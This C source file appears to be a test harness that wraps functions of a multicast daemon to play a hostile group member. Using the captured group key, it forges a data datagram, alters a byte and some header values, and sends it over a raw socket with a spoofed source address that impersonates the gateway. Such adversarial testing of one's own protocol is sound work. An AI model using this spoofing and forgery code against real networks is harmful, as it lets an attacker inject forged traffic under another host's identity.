/* SPDX-License-Identifier: BSD-2-Clause */
/* Owns what a node may do to the others of its group, whose key it has: the linker puts these
 * functions in front of those of gmcast-noded (--wrap). After some datagrams of the group
 * GMC_HOSTILE_GROUP (an IPv4 address and port) it sends one to it, a fragment with a byte changed,
 * under the address that the gateway's have and, if GMC_HOSTILE_PORT says so, another port. That
 * takes root. */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/assert.h"
#include "core/gateway_impl.h"
#include "wire/head.h"

#define AFTER 200    /* datagrams of data */
#define AHEAD 1000   /* packet numbers: nobody has seen that one */
#define BLOCKS_ON 8u /* so that nobody has it */

void __real_gw_hear_group(struct gmc_gateway *gw, struct gwpeer *peer, struct gwchannel *ch,
                          const struct gmc_msg *msg);
void __wrap_gw_hear_group(struct gmc_gateway *gw, struct gwpeer *peer, struct gwchannel *ch,
                          const struct gmc_msg *msg);
gmc_status __real_gw_hear(struct gmc_gateway *gw, const struct gmc_dgram_in *in);
gmc_status __wrap_gw_hear(struct gmc_gateway *gw, const struct gmc_dgram_in *in);

static struct gmc_gate gate; /* both ways under the group's key */
static uint32_t group;
static unsigned heard;

void __wrap_gw_hear_group(struct gmc_gateway *gw, struct gwpeer *peer, struct gwchannel *ch,
                          const struct gmc_msg *msg)
{
    struct gmc_session session = {.local_id = msg->group, .remote_id = msg->group};
    if (msg->payload.len > 0 && msg->group != group) {
        memcpy(session.send_secret, msg->secret, GMC_KEY_BYTES);
        memcpy(session.recv_secret, msg->secret, GMC_KEY_BYTES);
        if (group != 0)
            gmc_gate_fini(&gate);
        GMC_ASSERT(gmc_gate_init(&gate, gw->config.crypto, &session) == GMC_OK);
        group = msg->group;
        heard = 0;
    }
    __real_gw_hear_group(gw, peer, ch, msg);
}

/* As the kernel would send it, from whom we like. */
static void send_as(const struct gmc_addr *from, const uint8_t *bytes, size_t len)
{
    uint8_t packet[2048] = {0};
    struct ip *ip = (struct ip *)packet;
    struct udphdr *udp = (struct udphdr *)(packet + sizeof(*ip));
    struct ip_mreqn by = {.imr_ifindex = (int)if_nametoindex("eth0")};
    struct sockaddr_in to = {.sin_family = AF_INET};
    const char *port = getenv("GMC_HOSTILE_PORT");
    char text[64];
    unsigned number;
    GMC_ASSERT(sscanf(getenv("GMC_HOSTILE_GROUP"), "%63[0-9.]:%u", text, &number) == 2);
    GMC_ASSERT(inet_pton(AF_INET, text, &to.sin_addr) == 1);
    GMC_ASSERT(sizeof(*ip) + sizeof(*udp) + len <= sizeof(packet));
    ip->ip_v = 4;
    ip->ip_hl = sizeof(*ip) / 4;
    ip->ip_ttl = 1;
    ip->ip_p = IPPROTO_UDP;
    ip->ip_len = htons((uint16_t)(sizeof(*ip) + sizeof(*udp) + len));
    memcpy(&ip->ip_src, from->bytes, 4);
    ip->ip_dst = to.sin_addr;
    memcpy(&udp->uh_sport, from->bytes + 4, 2);
    if (port != NULL)
        udp->uh_sport = htons((uint16_t)atoi(port));
    udp->uh_dport = htons((uint16_t)number);
    udp->uh_ulen = htons((uint16_t)(sizeof(*udp) + len)); /* without a checksum */
    memcpy(packet + sizeof(*ip) + sizeof(*udp), bytes, len);
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    GMC_ASSERT(fd >= 0);
    (void)setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &by, sizeof(by));
    ssize_t sent = sendto(fd, packet, ntohs(ip->ip_len), 0, (struct sockaddr *)&to, sizeof(to));
    GMC_ASSERT(sent > 0);
    (void)close(fd);
}

static void forge(const struct gmc_dgram_in *in)
{
    uint8_t forged[2048];
    struct gmc_head head;
    struct gmc_data_head data;
    GMC_ASSERT(in->bytes.len <= sizeof(forged) && in->from.len == 6);
    memcpy(forged, in->bytes.data, in->bytes.len);
    GMC_ASSERT(gmc_head_get(in->bytes, &head) == GMC_OK);
    GMC_ASSERT(gmc_data_head_get(in->bytes, &data) == GMC_OK);
    forged[GMC_DATA_HEAD_BYTES] ^= 1;
    data.block += BLOCKS_ON;
    GMC_ASSERT(gmc_gate_head(&gate, GMC_KIND_GROUP_DATA, head.packet + AHEAD, &data,
                             forged + in->bytes.len - GMC_SEAL_TAG_BYTES, forged) == GMC_OK);
    send_as(&in->from, forged, in->bytes.len);
}

gmc_status __wrap_gw_hear(struct gmc_gateway *gw, const struct gmc_dgram_in *in)
{
    struct gmc_head head;
    if (gmc_head_get(in->bytes, &head) == GMC_OK && head.session == group &&
        head.kind == GMC_KIND_GROUP_DATA && ++heard == AFTER)
        forge(in);
    return __real_gw_hear(gw, in);
}
